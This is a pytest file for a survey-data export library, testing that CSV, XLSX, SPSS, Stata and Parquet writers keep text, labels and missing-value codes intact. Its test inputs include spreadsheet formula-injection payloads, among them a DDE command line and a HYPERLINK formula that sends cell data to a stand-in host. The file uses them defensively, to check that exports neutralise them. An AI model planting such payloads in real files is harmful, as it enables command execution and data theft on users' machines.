"""Files: what goes in comes out again, whatever it looks like."""

import csv
import zipfile

import polars as pl
import pyreadstat
import pytest
from python_calamine import CalamineWorkbook

from fieldwork.export import formats
from fieldwork.export.columns import Column
from fieldwork.export.errors import NoSuchFormat, TooLarge

FORMULAS = [
    *("=1+1", "+44 7700 900123", "-9", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", '"=1"', "'=1", " =1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test?"&A1,"Ω")', "http://evil.test", "mailto:a@evil.test"),
    *("a,b;c", "x\r\ny", "0044", "1e5", "TRUE", "2016-03-14", "ζ" * 300),
]
COLUMNS = [
    Column(name="word", label="A word " + "é" * 300, kind="text"),
    Column(name="number", label="A number", kind="choice", measure="ordinal", values={1: "=1+1", 2: "ü" * 200},
           missing={-7: "Refused", -8: "Doesn't know", -9: "Not asked", -1: "Does not apply"}),
    Column(name="score", label="A score", kind="score", measure="scale"),
]  # fmt: skip
ROWS = [[text, place % 3, place / 3] for place, text in enumerate(FORMULAS)] + [[None, -9, None], ["", None, -9.0]]


def written(path, kind, rows=ROWS, columns=COLUMNS):
    writer = formats.opened(kind, path, columns)
    writer.write(rows[:5])
    writer.write(rows[5:])
    writer.close()
    return path


def test_csv_gives_every_text_back_byte_for_byte(tmp_path):
    path = written(tmp_path / "x.csv", "csv")

    with path.open(newline="", encoding="utf-8") as file:
        read = list(csv.reader(file))
    assert [row[0] for row in read[1:]] == [*FORMULAS, "", ""]


def test_csv_tells_a_number_from_the_same_text_and_nothing_from_an_empty_one(tmp_path):
    rows = [["-9", -9, 0.1], [None, None, None], ["", None, None], ["1", 1, 1.0], ["1", 1, 1.0]]
    lines = written(tmp_path / "x.csv", "csv", rows).read_bytes()

    told = [b'"-9",-9,0.1', b",,", b'"",,', b'"1",1,1.0', b'"1",1,1.0']
    assert lines.split(b"\r\n") == [b'"word","number","score"', *told, b""]


def test_xlsx_holds_no_formula_link_or_guess(tmp_path):
    path = written(tmp_path / "x.xlsx", "xlsx")

    read = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in read[1:]] == [*FORMULAS, "", ""]
    assert read[len(FORMULAS) + 1][1] == -9
    with zipfile.ZipFile(path) as book:
        inside = b"".join(book.read(name) for name in book.namelist())
    assert b"<f>" not in inside
    assert b"hyperlink" not in inside


def test_a_sheet_that_is_too_small_is_refused(tmp_path):
    many = [Column(name=f"c{place}", label="", kind="text") for place in range(16_385)]

    with pytest.raises(TooLarge):
        formats.opened("xlsx", tmp_path / "x.xlsx", many)
    writer = formats.opened("xlsx", tmp_path / "y.xlsx", COLUMNS)
    with pytest.raises(TooLarge):
        writer.write([["x" * 40_000, 1, 1]])
    writer.close()


def test_spss_knows_labels_levels_and_reasons(tmp_path):
    path = written(tmp_path / "x.sav", "sav")

    frame, meta = pyreadstat.read_sav(path, output_format="polars", user_missing=True)
    blanked, _ = pyreadstat.read_sav(path, output_format="polars")

    assert frame["word"].to_list() == [*FORMULAS, "", ""]
    assert frame["number"].to_list()[-2:] == [-9.0, None]
    assert blanked["number"].to_list()[-2:] == [None, None]
    assert blanked["score"].to_list()[-1] == -9.0
    assert meta.missing_ranges == {"number": [{"lo": -9.0, "hi": -7.0}, {"lo": -1.0, "hi": -1.0}]}
    assert meta.variable_value_labels["number"][1] == "=1+1"
    assert meta.variable_value_labels["number"][-8] == "Doesn't know"
    assert meta.variable_measure["number"] == "ordinal"
    assert meta.column_names_to_labels["word"].startswith("A word éé")


def test_stata_knows_reasons_by_their_letters(tmp_path):
    path = written(tmp_path / "x.dta", "dta")

    frame, meta = pyreadstat.read_dta(path, output_format="polars", user_missing=True)

    assert frame["word"].to_list() == [*FORMULAS, "", ""]
    assert frame["number"].to_list()[-2:] == ["n", None]
    assert meta.variable_value_labels["number"]["n"] == "Not asked"
    assert frame["score"].to_list()[-1] == -9.0


def test_parquet_keeps_whole_numbers_whole(tmp_path):
    frame = pl.read_parquet(written(tmp_path / "x.parquet", "parquet"))

    assert frame.schema == {"word": pl.String, "number": pl.Int64, "score": pl.Float64}
    assert frame["word"].to_list() == [*FORMULAS, None, ""]
    assert frame["number"].to_list()[-2:] == [-9, None]


@pytest.mark.parametrize("kind", formats.OPENED)
def test_a_table_without_rows_is_a_file_all_the_same(tmp_path, kind):
    assert written(tmp_path / f"x.{kind}", kind, []).stat().st_size > 0


@pytest.mark.parametrize(("kind", "stamp"), [("sav", b"01 Jan 7000:00:00"), ("dta", b"01 Jan 1970 00:00")])
def test_no_file_says_when_it_was_written(tmp_path, kind, stamp):
    assert stamp in written(tmp_path / "x", kind).read_bytes()[:1000]


def test_another_format_is_refused(tmp_path):
    with pytest.raises(NoSuchFormat):
        formats.opened("ods", tmp_path / "x.ods", COLUMNS)
